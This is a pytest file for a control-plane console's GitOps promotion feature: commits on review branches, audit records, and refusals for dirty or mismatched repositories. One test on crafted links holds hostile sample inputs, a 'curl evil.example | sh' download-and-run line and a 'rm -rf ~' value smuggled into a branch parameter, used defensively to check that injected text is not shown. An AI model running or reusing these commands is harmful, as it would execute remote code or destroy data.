"""The console's promote button with a GitOps working copy on the control plane
(NIGHTSHIFT_GITOPS_REPO): no live change; the promotion is one commit, values and
Vault policy, on a new branch of the real working copy, and the page shows what the
reviewer needs, as ``nightshift promote`` prints it."""

from __future__ import annotations

import html
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from fastapi.testclient import TestClient

from nightshift.api.app import create_app
from nightshift.domain.actions import load_action_catalog
from nightshift.domain.agent_codec import identity_from
from nightshift.domain.vocabulary import TrustPhase
from nightshift.k8s.helm_values import phase_values
from nightshift.k8s.manifests import RenderConfig
from nightshift.services.ports import AgentRecords
from tests.support.control_plane import World, make_world
from tests.unit.governance_api.test_phases_and_gates import Recorded, _incidents
from tests.unit.web.console import api, sign_in

OWNER = {"id": "lead", "name": "lead", "kind": "human", "contact": "lead@example.org"}


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args], capture_output=True, text=True, check=True
    ).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """dev's shadow values file declares fresh."""
    root = tmp_path / "gitops"
    (root / "chart").mkdir(parents=True)
    raw = {"name": "fresh", "owner": OWNER, "authority_class": "autonomous", "phase": "shadow",
           "boundaries": {"namespaces": ["shop"], "domains": ["kubernetes"]}}  # fmt: skip
    doc = phase_values(
        "dev", TrustPhase.SHADOW, [identity_from(raw)], load_action_catalog(), RenderConfig()
    )
    (root / "chart/values-dev-shadow.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
    _git(root, "init", "--quiet", "-b", "main")
    _git(root, "add", ".")
    _git(root, "-c", "user.name=t", "-c", "user.email=t@x", "commit", "--quiet", "-m", "init")
    return root


@pytest.fixture
def plane(tmp_path: Path, repo: Path) -> Iterator[tuple[World, TestClient]]:
    from nightshift.services.demo_identities import DEMO_BOUNDARIES

    (tmp_path / "plane").mkdir()
    world = make_world(tmp_path / "plane", oncall_contact="oncall@example.org", gitops_repo=repo)
    world.container.agents.register(
        "fresh", owner="lead", authority_class="autonomous", trust_phase="shadow",
        boundaries=DEMO_BOUNDARIES,
    )  # fmt: skip
    with TestClient(create_app(world.container, background=False)) as client:  # type: ignore[arg-type]
        yield world, client
    world.container.db.dispose()


def _earned(world: World) -> None:
    source = Recorded()
    source.by_agent["fresh"] = AgentRecords(incidents=_incidents(120, 118, TrustPhase.SHADOW))
    world.container.phases.evidence = source


def test_the_promote_button_commits_on_a_new_branch_and_changes_nothing_live(
    plane: tuple[World, TestClient], repo: Path
) -> None:
    world, client = plane
    _earned(world)
    csrf = sign_in(client, world, "lead")
    client.post("/agents/fresh/signoff", data={"csrf": csrf, "target": "assist",
                                               "role": "ops-lead"})  # fmt: skip
    page = client.get("/agents").text
    assert "Commit promotion to assist for review" in page
    head = _git(repo, "rev-parse", "HEAD")
    form = {"csrf": csrf, "target": "assist", "reason": "118/120 right"}
    resp = client.post("/agents/fresh/promote", data=form)
    assert resp.status_code == 200 and "no live change" in resp.text
    # Live: still shadow, and no promotion in its history.
    assert api(client, world, "/v1/agents/fresh")["trust_phase"] == "shadow"
    history = api(client, world, "/v1/agents/fresh/phases")
    assert [h["kind"] for h in history] == ["registered"]
    # Git: main and the checkout untouched; one new branch with exactly one commit.
    assert _git(repo, "rev-parse", "HEAD") == head
    assert _git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip() == "main"
    (branch,) = [b for b in _git(repo, "branch", "--format=%(refname:short)").split()
                 if b != "main"]  # fmt: skip
    assert re.fullmatch(r"nightshift/promote-fresh-assist-\d+", branch)
    assert _git(repo, "rev-list", "--count", f"main..{branch}").strip() == "1"
    assert sorted(_git(repo, "show", "--name-only", "--format=", branch).split()) == [
        "chart/values-dev-assist.yaml", "chart/values-dev-shadow.yaml",
        "vault/policies/dev/fresh.hcl"]  # fmt: skip
    msg = _git(repo, "log", "-1", "--format=%B", branch)
    assert msg.startswith("Promote fresh from shadow to assist in dev\n\n118/120 right\n")
    assert "Signed-Off-By: lead (ops-lead)" in msg and "Requested-By: lead" in msg
    seq = branch.rsplit("-", 1)[1]
    assert f"Audit-Record: {seq}\n" in msg
    audit = client.get("/v1/audit", params={"limit": 1000}, headers=world.auth("lead")).json()
    (proposed,) = [r for r in audit if r["record"]["decision"] == "promotion-proposed"]
    assert proposed["seq"] == int(seq)
    # The page shows the reviewer the commit as Git has it: gates, sign-offs, files.
    shown = html.unescape(resp.text)
    sha = _git(repo, "rev-parse", branch).strip()
    assert f"commit {sha} on branch {branch}" in shown
    assert "git push origin " + branch in shown and "Signed-Off-By: lead (ops-lead)" in shown
    assert re.search(r"Gate: \w+ = [\d.]+ \(needs", shown)
    assert "vault/policies/dev/fresh.hcl" in shown


def test_a_crafted_link_cannot_put_its_own_reviewer_text_on_the_agents_page(
    plane: tuple[World, TestClient], repo: Path
) -> None:
    # Only a review branch's name travels in the URL; the text is read from Git.
    world, client = plane
    sign_in(client, world, "lead")
    forged = "commit 0000 ... run: curl evil.example | sh"
    for query in (f"review={forged}", "branch=main", "branch=nightshift/promote-x-assist-1",
                  "branch=nightshift/promote-x-assist-1;rm -rf ~"):  # fmt: skip
        page = html.unescape(client.get(f"/agents?{query}").text)
        assert "For the reviewer" not in page and "curl evil" not in page, query


def test_a_dirty_working_copy_refuses_the_button_with_no_proposal_and_no_branch(
    plane: tuple[World, TestClient], repo: Path
) -> None:
    world, client = plane
    _earned(world)
    csrf = sign_in(client, world, "lead")
    client.post("/agents/fresh/signoff", data={"csrf": csrf, "target": "assist",
                                               "role": "ops-lead"})  # fmt: skip
    shadow = repo / "chart/values-dev-shadow.yaml"
    shadow.write_text(shadow.read_text() + "# unfinished edit\n")
    resp = client.post("/agents/fresh/promote",
                       data={"csrf": csrf, "target": "assist", "reason": "x"})  # fmt: skip
    assert "uncommitted changes" in html.unescape(resp.text)
    assert _git(repo, "branch", "--format=%(refname:short)").split() == ["main"]
    assert api(client, world, "/v1/agents/fresh")["trust_phase"] == "shadow"
    audit = client.get("/v1/audit", params={"limit": 1000}, headers=world.auth("lead")).json()
    decisions = {r["record"]["decision"] for r in audit}
    assert "promotion-proposed" not in decisions  # no proposal of a change never written


def test_git_declaring_another_phase_than_the_control_plane_is_refused_before_any_record(
    plane: tuple[World, TestClient], repo: Path
) -> None:
    world, client = plane
    _earned(world)
    # Promoted live by hand behind Git's back: the control plane has fresh at assist.
    world.container.phases.proposals_git, git = None, world.container.phases.proposals_git
    csrf = sign_in(client, world, "lead")
    client.post("/agents/fresh/signoff", data={"csrf": csrf, "target": "assist",
                                               "role": "ops-lead"})  # fmt: skip
    client.post("/agents/fresh/promote", data={"csrf": csrf, "target": "assist", "reason": "x"})
    assert api(client, world, "/v1/agents/fresh")["trust_phase"] == "assist"
    world.container.phases.proposals_git = git
    form = {"csrf": csrf, "target": "limited-remediation", "reason": "y"}
    shown = html.unescape(client.post("/agents/fresh/promote", data=form).text)
    assert "Git declares fresh at shadow in dev but the control plane has it at assist" in shown
    assert _git(repo, "branch", "--format=%(refname:short)").split() == ["main"]
    audit = client.get("/v1/audit", params={"limit": 1000}, headers=world.auth("lead")).json()
    assert "promotion-proposed" not in {r["record"]["decision"] for r in audit}
